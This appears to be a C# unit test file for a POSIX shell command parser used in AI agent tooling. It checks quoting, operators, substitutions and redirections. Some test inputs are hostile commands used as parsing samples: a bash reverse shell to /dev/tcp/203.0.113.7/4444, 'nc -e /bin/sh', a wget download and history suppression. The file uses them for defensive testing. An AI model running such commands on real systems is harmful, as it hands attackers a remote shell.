using Parry.Agents.Shell;
using static Parry.Agents.Tests.Shell.ShellTestParsing;

namespace Parry.Agents.Tests.Shell;

public class PosixShellParserTests
{
    [Fact]
    public void Splits_words_and_removes_quotes()
    {
        Words("""grep -rn "TODO: fix" 'src/my dir' --include=*.py""").ShouldBe([["grep", "-rn", "TODO: fix", "src/my dir", "--include=*.py"]]);
    }

    [Fact]
    public void Backslash_escapes_outside_and_inside_double_quotes()
    {
        Words("""echo a\ b "c \"d\" \$HOME \\ \x" 'e\f'""").ShouldBe([["echo", "a b", "c \"d\" $HOME \\ \\x", "e\\f"]]);
    }

    [Fact]
    public void Ansi_c_quoting_is_decoded()
    {
        Words("printf $'a\\tb\\x41\\101\\n'").ShouldBe([["printf", "a\tbAA\n"]]);
    }

    [Fact]
    public void Adjacent_quoted_parts_make_one_word()
    {
        Words("""ec"h"'o' "a"'b'c""").ShouldBe([["echo", "abc"]]);
    }

    [Fact]
    public void Empty_quotes_are_an_empty_word()
    {
        Words("""ssh -N -o '' host """).ShouldBe([["ssh", "-N", "-o", "", "host"]]);
    }

    [Fact]
    public void Operators_separate_commands_and_record_how_they_join()
    {
        var commands = Parse("make && ./run || echo failed; ls | wc -l & sleep 1");
        commands.Select(c => c.Words[0]).ShouldBe(["make", "./run", "echo", "ls", "wc", "sleep"]);
        commands.Select(c => c.Next).ShouldBe([ShellOperator.And, ShellOperator.Or, ShellOperator.Sequence, ShellOperator.Pipe, ShellOperator.Background, ShellOperator.None]);
        commands[4].PipedIn.ShouldBeTrue();
        commands[4].PipeSource.ShouldBeSameAs(commands[3]);
    }

    [Fact]
    public void New_lines_and_line_continuations()
    {
        Words("apt-get update \\\n  && apt-get install -y \\\n    curl\nwhoami").ShouldBe([["apt-get", "update"], ["apt-get", "install", "-y", "curl"], ["whoami"]]);
    }

    [Fact]
    public void Comments_run_to_the_end_of_the_line_but_not_inside_words()
    {
        Words("echo a#b # the rest\nid").ShouldBe([["echo", "a#b"], ["id"]]);
    }

    [Fact]
    public void Assignments_before_a_command_are_not_its_program()
    {
        var command = Parse("LANG=C HISTFILE=/dev/null nmap -sn 10.0.0.0/24").Single();
        command.Assignments.ShouldBe(["LANG=C", "HISTFILE=/dev/null"]);
        command.Words.ShouldBe(["nmap", "-sn", "10.0.0.0/24"]);
    }

    [Fact]
    public void Command_substitutions_are_parsed_into_commands_of_their_own()
    {
        var commands = Parse("echo \"user: $(whoami) on `hostname`\" > /tmp/x");
        commands.Where(c => c.Depth == 1).Select(c => c.Words[0]).ShouldBe(["whoami", "hostname"], ignoreOrder: true);
        var echo = commands.Single(c => c.Depth == 0);
        echo.Words.ShouldBe(["echo", "user: $(whoami) on `hostname`"]);
        echo.Redirects.Single().ShouldBe(new ShellRedirect(">", null, "/tmp/x"));
    }

    [Fact]
    public void Nested_substitutions_nest_deeper()
    {
        var commands = Parse("echo $(cat $(ls /etc/*.conf | head -1))");
        commands.Single(c => c.Words[0] == "ls").Depth.ShouldBe(2);
        commands.Single(c => c.Words[0] == "cat").Depth.ShouldBe(1);
    }

    [Fact]
    public void Process_substitution_is_parsed()
    {
        Parse("diff <(sort a) <(sort b)").Count(c => c.Words[0] == "sort").ShouldBe(2);
    }

    [Fact]
    public void Arithmetic_expansion_runs_nothing()
    {
        Words("echo $((1 + 2)) $((x*3))").ShouldBe([["echo", "$((1 + 2))", "$((x*3))"]]);
    }

    [Fact]
    public void Redirections_with_descriptors_and_duplication()
    {
        var command = Parse("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 2>>err.log &>out").Single();
        command.Words.ShouldBe(["bash", "-i"]);
        command.Redirects.ShouldBe([
            new ShellRedirect(">&", null, "/dev/tcp/203.0.113.7/4444"),
            new ShellRedirect(">&", 0, "1"),
            new ShellRedirect(">>", 2, "err.log"),
            new ShellRedirect("&>", null, "out"),
        ]);
        command.Redirects[0].Writes.ShouldBeTrue();
        command.Redirects[1].Writes.ShouldBeFalse();
    }

    [Fact]
    public void Here_documents_are_read_after_the_line()
    {
        var commands = Parse("cat <<'EOF' > /tmp/a.sh\nnmap -sV $1\nEOF\nbash /tmp/a.sh\n");
        commands.Count.ShouldBe(2);
        commands[0].Redirects[0].HereDocument.ShouldBe("nmap -sV $1\n");
        commands[1].Words.ShouldBe(["bash", "/tmp/a.sh"]);
    }

    [Fact]
    public void Here_documents_with_tab_stripping()
    {
        var command = Parse("python3 <<-END\n\timport os\n\tEND\n").Single();
        command.Redirects[0].HereDocument.ShouldBe("\timport os\n");
    }

    [Fact]
    public void Reserved_words_of_compound_commands_are_skipped()
    {
        var programs = Parse("if grep -q x f; then nmap -sV h; else echo no; fi; while true; do sleep 1; done")
            .Select(c => c.Words[0]).ToList();
        programs.ShouldBe(["grep", "nmap", "echo", "true", "sleep"]);
    }

    [Fact]
    public void For_loops_run_their_body_not_their_head()
    {
        Parse("for ip in 10.0.0.1 10.0.0.2; do ping -c1 $ip; done").Select(c => c.Words[0]).ShouldBe(["ping"]);
    }

    [Fact]
    public void Case_patterns_are_not_commands()
    {
        Parse("case $1 in start) ./run.sh;; stop|halt) kill 1;; esac").Select(c => c.Words[0]).ShouldBe(["./run.sh", "kill"]);
    }

    [Fact]
    public void Subshells_and_groups()
    {
        Parse("(cd /tmp && wget http://x/a) ; { id; uname -a; }").Select(c => c.Words[0]).ShouldBe(["cd", "wget", "id", "uname"]);
    }

    [Fact]
    public void Function_definitions_run_their_body()
    {
        Parse("f() { nc -e /bin/sh h 1; }; f").Select(c => c.Words[0]).ShouldBe(["nc", "f"]);
    }

    [Fact]
    public void Array_assignments_stay_one_word()
    {
        var command = Parse("hosts=(a b c) nmap ${hosts[@]}").Single();
        command.Assignments.ShouldBe(["hosts=(a b c)"]);
        command.Words.ShouldBe(["nmap", "${hosts[@]}"]);
    }

    [Theory]
    [InlineData("echo 'unterminated")]
    [InlineData("echo \"unterminated $(whoami")]
    [InlineData("echo $(((")]
    [InlineData("cat <<EOF\nno end")]
    [InlineData("`unterminated")]
    [InlineData("a\\")]
    [InlineData(")))(((;;;&&||")]
    [InlineData("${")]
    [InlineData("$'\\x")]
    public void Broken_input_does_not_throw(string text)
    {
        Should.NotThrow(() => Parse(text));
    }

    [Fact]
    public void Deep_nesting_stops_at_the_budget()
    {
        var text = string.Concat(Enumerable.Repeat("$(", 100)) + "id" + new string(')', 100);
        var commands = new List<ShellCommand>();
        var budget = new ShellParseBudget();
        PosixShellParser.Parse("echo " + text, 0, budget, commands);
        budget.Truncated.ShouldBeTrue();
        commands.Max(c => c.Depth).ShouldBeLessThan(budget.MaxDepth);
    }

    [Fact]
    public void Command_count_is_bounded()
    {
        var commands = new List<ShellCommand>();
        var budget = new ShellParseBudget(maxCommands: 10);
        PosixShellParser.Parse(string.Join(';', Enumerable.Repeat("id", 1000)), 0, budget, commands);
        commands.Count.ShouldBe(10);
        budget.Truncated.ShouldBeTrue();
    }

    [Fact]
    public void ToString_writes_a_command_back_with_quotes()
    {
        Parse("echo 'a b' \"it's\" plain >out").Single().ToString().ShouldBe("echo 'a b' 'it'\\''s' plain >out");
    }
}
